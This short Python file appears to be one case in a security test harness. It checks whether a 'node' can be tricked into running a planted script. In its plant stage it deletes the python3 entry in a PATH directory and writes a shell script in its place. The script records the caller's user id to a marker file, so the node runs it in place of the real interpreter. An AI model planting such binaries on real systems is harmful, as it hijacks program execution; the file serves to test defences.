# name: have the node run a planted script that stands in for python3 on its PATH
# line: 66
# finding: 5
# workspace: on the path
# play: again elsewhere
import os

from attack import STAGE, planted, refused

if STAGE["part"] == "plant":
    program = f"{STAGE['path_entry']}/python3"
    try:
        os.unlink(program)
        with open(program, "w", encoding="utf-8") as file:
            # It prints no path, so the node runs it again for the next session.
            file.write(f"#!/bin/sh\nid -u > {STAGE['home']}/ran-by-the-node\necho none\n")
        os.chmod(program, 0o755)
    except OSError as error:
        refused(f"{error.strerror} on {program}")
    planted("python3 is a script")
refused("it looks at nothing itself")
